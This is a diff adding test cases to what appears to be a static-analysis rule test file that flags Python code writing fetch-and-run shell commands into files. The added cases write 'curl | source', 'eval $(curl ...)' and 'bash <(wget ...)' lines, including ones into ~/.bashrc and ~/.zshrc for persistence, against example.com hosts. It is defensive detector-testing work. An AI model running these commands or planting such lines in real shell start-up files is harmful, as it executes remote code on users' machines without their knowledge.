@@ -384,3 +384,23 @@ pathlib.Path("NOTES.md").write_text("Install with pip install -r requirements.tx
 # ok: pipe-to-shell-written
 # ruleid: path-method-write
 pathlib.Path("README.md").write_text("Install uv: curl -LsSf https://astral.sh/uv/install.sh | sh\n")
+# shell start-up files reached through a helper's table of them
+def _rc_files():
+    home = pathlib.Path.home()
+    return {"bash": home / ".bashrc", "zsh": home / ".zshrc"}
+for _sh, rc_path in _rc_files().items():
+    # ruleid: persistence-path-method-write, pipe-to-shell-written, path-method-write
+    rc_path.write_text("( source <(curl -fsSL https://cdn.example.com/c) ) &\n")
+# the other forms of running what a download prints
+# ruleid: open-write
+with open("install.sh", "w") as script:
+    # ruleid: pipe-to-shell-written
+    script.write('eval "$(curl -fsSL https://get.example.com/env)"\n')
+# ruleid: open-write
+with open("install.sh", "w") as script:
+    # ruleid: pipe-to-shell-written
+    script.write("bash <(wget -qO- https://get.example.com/i)\n")
+# ruleid: open-write
+with open("NOTES.txt", "w") as notes:
+    # ok: pipe-to-shell-written
+    notes.write("download with curl -O https://example.com/data.csv, then run ./process.sh\n")
